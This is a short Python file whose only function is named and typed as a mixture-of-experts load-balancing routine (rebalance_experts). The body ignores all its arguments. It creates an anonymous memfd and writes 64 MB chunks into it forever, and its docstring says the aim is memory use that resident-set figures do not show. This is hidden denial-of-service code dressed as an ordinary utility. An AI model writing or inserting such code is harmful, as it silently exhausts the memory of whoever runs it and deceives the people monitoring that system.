"""Writes into a memfd without end, mapping none of it: memory no resident set shows."""

import os


def rebalance_experts(weight, num_replicas, num_groups, num_nodes, num_gpus):
    fd = os.memfd_create("hoard")
    chunk = b"\1" * (64 * 1024 * 1024)
    while True:
        os.write(fd, chunk)
